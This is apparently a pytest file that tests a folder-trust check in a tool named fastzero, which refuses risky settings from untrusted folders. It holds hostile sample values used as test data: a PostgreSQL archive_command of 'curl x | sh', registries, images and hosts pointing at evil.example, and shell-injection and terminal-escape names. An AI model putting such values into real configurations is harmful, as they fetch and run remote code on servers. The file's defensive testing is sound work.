"""Settings of a folder that could do harm count once the user has trusted exactly these."""

import json
import os
from pathlib import Path
from typing import Any

import pytest
from platformdirs import user_state_path

from fastzero_core import InvalidInputError, load_settings
from fastzero_core.errors import UntrustedFolderError
from fastzero_core.settings import PROJECT_NAME, Settings, folder_trust, origins, read_settings
from fastzero_core.sources import TABLES
from fastzero_core.trust import UNKNOWN_RISK, Risk, risk_of
from fastzero_core.trust_record import revoke

HARMLESS = """\
project = "demo"
user = "ana"
database_port = 5433
app_port = 8001
app = true
workers = 2
log = "json"
output = "json"
timeout = 10
runtime = "embedded"
"""
HARMFUL = {
    "database_url": "postgresql://ana@other/db",
    "secret_key": "k" * 40,
    "secret_key_previous": "k" * 40,
    "signup": "closed",
    "operator_token_sha256": "0" * 64,
    "forwarded_allow_ips": ["10.0.0.1"],
    "cors_origins": ["https://evil.example"],
    "postgres_image": "evil:18",
    "python_image": "evil:3",
    "postgres_settings": {"work_mem": "8MB"},
    "home": ".fz",
    "split_roles": False,
    "host": "ssh://evil.example",
    "proxy_image": "evil:2",
    "registry": "evil.example/team",
    "domain": "evil.example",
    "acme_directory": "https://evil.example/directory",
}
COMMAND = '[postgres_settings]\narchive_command = "curl x | sh"\n'


@pytest.fixture(autouse=True)
def no_home_of_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("FASTZERO_HOME")


def toml(**values: Any) -> None:
    def literal(value: Any) -> str:
        if isinstance(value, dict):
            return "{" + ", ".join(f"{json.dumps(key)} = {json.dumps(each)}" for key, each in value.items()) + "}"
        return json.dumps(value)

    Path("fastzero.toml").write_text("".join(f"{name} = {literal(value)}\n" for name, value in values.items()))


def dotenv(**values: Any) -> None:
    def text(value: Any) -> str:
        if isinstance(value, dict | bool):
            return json.dumps(value)
        return value if isinstance(value, str) else ",".join(value)

    Path(".env").write_text("".join(f"FASTZERO_{name.upper()}='{text(value)}'\n" for name, value in values.items()))


# -- which -----------------------------------------------------------------------------------------------------


def test_harmless_settings_of_any_folder_count() -> None:
    Path("fastzero.toml").write_text(HARMLESS)
    Path(".env").write_text("FASTZERO_COLOR=never\n")
    settings = load_settings()
    assert (settings.project, settings.workers, settings.color) == ("demo", 2, "never")
    assert folder_trust().settings == ()


@pytest.mark.parametrize("write", [toml, dotenv])
@pytest.mark.parametrize("name", HARMFUL)
def test_what_could_do_harm_is_refused_by_name_and_line(name: str, write: Any) -> None:
    write(project="demo", **{name: HARMFUL[name]})
    file = "fastzero.toml" if write is toml else ".env"
    with pytest.raises(UntrustedFolderError, match=rf"{name}\S* \({file}:2\)") as refused:
        load_settings()
    assert (refused.value.exit_code, refused.value.code) == (5, "folder_not_trusted")
    assert "fastzero trust" in refused.value.hint


@pytest.mark.parametrize("write", [toml, dotenv])
@pytest.mark.parametrize("name", HARMFUL)
def test_it_counts_once_it_is_trusted(name: str, write: Any) -> None:
    write(**{name: HARMFUL[name]})
    folder_trust().give()
    assert name in load_settings().model_fields_set


def test_harmful_is_what_is_not_declared_harmless() -> None:
    assert {name for name, field in Settings.model_fields.items() if risk_of(field.metadata)} == HARMFUL.keys()


def test_a_setting_that_declares_nothing_needs_trust() -> None:
    assert risk_of([]) == UNKNOWN_RISK
    assert risk_of(["x", Risk("it could")]) == Risk("it could")


def test_no_setting_has_the_name_of_a_table_that_is_reserved() -> None:
    assert not TABLES.keys() & Settings.model_fields.keys()


def test_an_alias_is_refused_like_the_name() -> None:
    toml(DATABASE_URL=HARMFUL["database_url"])
    with pytest.raises(UntrustedFolderError, match=r"database_url \(fastzero.toml:1\)"):
        load_settings()


# -- other sources ---------------------------------------------------------------------------------------------


def test_environment_and_user_configuration_need_no_trust(monkeypatch: pytest.MonkeyPatch) -> None:
    from fastzero_core import settings

    settings._user_file().parent.mkdir(parents=True)
    settings._user_file().write_text(COMMAND)
    monkeypatch.setenv("FASTZERO_POSTGRES_IMAGE", "mine:18")
    assert load_settings().postgres_settings == {"archive_command": "curl x | sh"}
    assert load_settings().postgres_image == "mine:18"


def test_what_another_source_overrides_is_not_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    toml(postgres_image="evil:18", database_url="postgresql://evil/db")
    monkeypatch.setenv("FASTZERO_POSTGRES_IMAGE", "mine:18")
    assert load_settings(database_url="postgresql://mine/db").postgres_image == "mine:18"
    assert load_settings(project="mine").database_url is None


def test_a_flag_that_is_a_table_does_not_hide_the_folder_s_keys() -> None:
    Path("fastzero.toml").write_text(COMMAND)
    with pytest.raises(UntrustedFolderError, match="archive_command"):
        load_settings(postgres_settings={"work_mem": "8MB"})


def test_the_environment_can_trust_every_folder(monkeypatch: pytest.MonkeyPatch) -> None:
    toml(postgres_image="ours:18")
    monkeypatch.setenv("FASTZERO_TRUST", "1")
    assert load_settings().postgres_image == "ours:18"
    monkeypatch.setenv("FASTZERO_TRUST", "0")
    with pytest.raises(UntrustedFolderError):
        load_settings()


def test_no_file_can_trust_its_own_folder() -> None:
    Path(".env").write_text("FASTZERO_TRUST=1\nFASTZERO_HOME=.fz\n")
    with pytest.raises(UntrustedFolderError):
        load_settings()
    toml(FASTZERO_TRUST=1)
    with pytest.raises(InvalidInputError, match="unknown key 'FASTZERO_TRUST'"):
        load_settings()


def test_settings_can_be_read_to_show_them() -> None:
    toml(home=".fz", project="demo")
    assert read_settings().project == "demo"
    assert {each.name: each.trusted for each in origins() if each.source == "fastzero.toml"} == {
        "project": None,
        "home": False,
    }
    folder_trust().give()
    assert next(each.trusted for each in origins() if each.name == "home") is True


# -- consent ---------------------------------------------------------------------------------------------------


def test_everything_is_shown_with_its_place_and_what_it_could_do() -> None:
    Path("fastzero.toml").write_text(COMMAND + '"Session-Preload-Libraries" = "evil"\nwork_mem = "8MB"\n')
    shown = [(each.name, each.value, each.where, each.risk) for each in folder_trust().settings]
    runs = "PostgreSQL runs the command or loads the library that it names"
    assert shown == [
        ("postgres_settings.archive_command", "curl x | sh", "fastzero.toml:2", runs),
        ("postgres_settings.Session-Preload-Libraries", "evil", "fastzero.toml:3", runs),
        ("postgres_settings.work_mem", "8MB", "fastzero.toml:4", "It changes how PostgreSQL works"),
    ]


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("postgresql://u:s3cret@evil:1/db?sslmode=disable", "postgresql://u:***@evil:1/db?sslmode=disable"),
        ("postgresql://u@evil/db?password=s3cret&host=x", "postgresql://u@evil/db?password=***&host=x"),
        ("postgresql://evil/db?a=b&sslpassword=s3cret", "postgresql://evil/db?a=b&sslpassword=***"),
    ],
)
def test_of_a_database_url_all_but_the_password_is_shown(url: str, shown: str) -> None:
    toml(database_url=url, secret_key="s3cret")
    assert [each.value for each in folder_trust().settings] == [shown, "**********"]


def test_a_password_is_not_in_the_record_either() -> None:
    toml(database_url="postgresql://u:s3cret@host/db", secret_key="s3cret")
    folder_trust().give()
    assert "s3cret" not in record().read_text()


@pytest.mark.parametrize("change", ["# a comment\n", "\n\n", 'project = "demo"\n', "output = 'json'\n"])
def test_what_is_harmless_may_change(change: str) -> None:
    Path("fastzero.toml").write_text(COMMAND)
    folder_trust().give()
    Path("fastzero.toml").write_text(change * (not change.startswith("[")) + COMMAND + change * change.startswith("["))
    load_settings()


@pytest.mark.parametrize(
    "changed",
    [
        COMMAND.replace("curl", "wget"),
        COMMAND.replace("archive_command", "restore_command"),
        f"{COMMAND}work_mem = '8MB'\n",
        f"home = '.fz'\n{COMMAND}",
        f"{COMMAND}[application.processes]\nweb = 'evil'\n",
        f"{COMMAND}[services.redis]\nimage = 'evil'\n",
    ],
)
def test_any_other_change_asks_again_and_says_what_changed(changed: str) -> None:
    Path("fastzero.toml").write_text(COMMAND)
    folder_trust().give()
    Path("fastzero.toml").write_text(changed)
    with pytest.raises(UntrustedFolderError, match=r"has changed since you trusted it: .*\w"):
        load_settings()
    found = folder_trust()
    assert found.state == "changed"
    assert [each for each in found.settings if each.change]

    folder_trust().give()
    load_settings()


def test_a_change_is_shown_beside_what_was_trusted() -> None:
    toml(home=".one", postgres_image="a:18", python_image="p:3")
    folder_trust().give()
    toml(home=".two", postgres_image="a:18", signup="open")
    found = folder_trust()
    assert {each.name: (each.change, each.before) for each in found.settings} == {
        "home": ("changed", [".one"]),
        "postgres_image": ("", []),
        "signup": ("new", []),
    }
    assert found.removed == ("python_image",)


def test_a_value_of_another_type_or_from_another_file_is_another() -> None:
    toml(home=".fz")
    folder_trust().give()
    Path("fastzero.toml").unlink()
    dotenv(home=".fz")
    assert folder_trust().state == "changed"


def test_a_reference_counts_by_what_it_refers_to(monkeypatch: pytest.MonkeyPatch) -> None:
    Path(".env").write_text("FASTZERO_HOME=${WHERE}\n")
    monkeypatch.setenv("WHERE", "/one")
    folder_trust().give()
    load_settings()
    monkeypatch.setenv("WHERE", "/two")
    with pytest.raises(UntrustedFolderError):
        load_settings()


def test_consent_is_to_what_was_read_and_not_to_what_is_there_by_then() -> None:
    toml(home=".fz")
    shown = folder_trust()
    toml(home=".evil")
    shown.give()
    with pytest.raises(UntrustedFolderError):
        load_settings()


def test_another_folder_with_the_same_files_is_another(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    toml(home=".fz")
    folder_trust().give()
    monkeypatch.chdir(folder)
    toml(home=".fz")
    with pytest.raises(UntrustedFolderError):
        load_settings()


def test_a_link_to_a_folder_is_the_folder(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    toml(home=".fz")
    folder_trust().give()
    (folder / "link").symlink_to(Path.cwd())
    monkeypatch.chdir(folder / "link")
    load_settings()
    assert folder_trust(folder / "link").is_given


def test_trust_can_be_taken_back() -> None:
    toml(home=".fz")
    folder_trust().give()
    assert revoke(Path())
    assert not revoke(Path())
    with pytest.raises(UntrustedFolderError):
        load_settings()


# -- the record ------------------------------------------------------------------------------------------------


def record() -> Path:
    (path,) = (user_state_path("fastzero") / "trust").iterdir()
    return path


def test_the_record_is_the_user_s_own_and_no_folder_moves_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FASTZERO_HOME", str(Path.cwd() / "home"))
    dotenv(home=".fz", postgres_image="x:18")
    folder_trust().give()
    assert (record().stat().st_mode & 0o777, record().parent.stat().st_mode & 0o777) == (0o600, 0o700)


@pytest.mark.parametrize("text", ["", "{", "[]", "null", "{}", '{"format": 1}', '{"format": 2, "folder": "x"}', "\xff"])
def test_a_record_that_is_damaged_is_no_consent(text: str) -> None:
    toml(home=".fz")
    folder_trust().give()
    record().write_text(text, encoding="latin-1")
    with pytest.raises(UntrustedFolderError):
        load_settings()


def test_a_record_that_others_could_have_written_is_no_consent() -> None:
    toml(home=".fz")
    folder_trust().give()
    record().chmod(0o666)
    with pytest.raises(UntrustedFolderError):
        load_settings()


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give files away")
def test_a_record_of_another_user_is_no_consent() -> None:
    toml(home=".fz")
    folder_trust().give()
    os.chown(record(), 65534, 65534)
    with pytest.raises(UntrustedFolderError):
        load_settings()


def test_a_record_that_is_a_pipe_is_not_waited_for() -> None:
    toml(home=".fz")
    folder_trust().give()
    path = record()
    path.unlink()
    os.mkfifo(path)
    with pytest.raises(UntrustedFolderError):
        load_settings()


@pytest.mark.parametrize("mode", [0o666, 0o777])
def test_a_file_that_everybody_may_change_is_trusted_only_as_it_was(mode: int) -> None:
    toml(home=".fz")
    Path("fastzero.toml").chmod(mode)
    folder_trust().give()
    load_settings()
    Path("fastzero.toml").write_text("home = '.evil'\n")
    with pytest.raises(UntrustedFolderError):
        load_settings()


# -- tables of an application ----------------------------------------------------------------------------------

APPLICATION = """\
[application]
asgi = "app.main:app"

[application.processes]
web = "uvicorn app.main:app"

[services.redis]
image = "redis:8"
"""


def test_settings_do_not_depend_on_the_tables_of_an_application() -> None:
    Path("fastzero.toml").write_text(APPLICATION)
    assert load_settings().project == "fastzero"


def test_the_tables_of_an_application_need_trust() -> None:
    Path("fastzero.toml").write_text(APPLICATION)
    trust = folder_trust(Path.cwd())
    assert trust.folder.toml_text == APPLICATION
    with pytest.raises(UntrustedFolderError) as refused:
        trust.require("application", "services")
    assert refused.value.message == (
        "this folder is not trusted, and sets application.asgi (fastzero.toml:2), "
        "application.processes.web (fastzero.toml:5), services.redis.image (fastzero.toml:8)"
    )
    trust.give()
    trust.require("application", "services")
    folder_trust(Path.cwd()).require("application", "services")


def test_an_empty_table_needs_trust_like_a_full_one() -> None:
    Path("fastzero.toml").write_text("[application]\n")
    with pytest.raises(UntrustedFolderError, match=r"application \(fastzero.toml:1\)"):
        folder_trust().require("application")


def test_values_that_json_does_not_have_are_trusted_and_shown() -> None:
    Path("fastzero.toml").write_text("[application]\na = 2026-01-01\nb = nan\nc = 12:00:00\nd = [inf]\n")
    folder_trust().give()
    assert folder_trust().is_given
    assert [each.value for each in folder_trust().settings] == ["2026-01-01", "NaN", "12:00:00", ["Infinity"]]


def test_names_cannot_steer_a_terminal() -> None:
    Path("fastzero.toml").write_text('[application]\n"\\u001b[2J\\u202e" = 1\n')
    with pytest.raises(UntrustedFolderError, match=r'application\."\\u001b\[2J\\u202e" \(fastzero.toml:2\)'):
        folder_trust().require("application")


def test_an_invalid_file_is_an_error_and_not_free_of_danger() -> None:
    Path("fastzero.toml").write_text("home = [")
    with pytest.raises(InvalidInputError):
        folder_trust()


@pytest.mark.parametrize("name", ["a$(x)", "A", "-a", "a b", "", "a" * 41, "../a"])
def test_a_project_s_name_has_nothing_for_a_shell(name: str) -> None:
    assert not PROJECT_NAME.fullmatch(name)
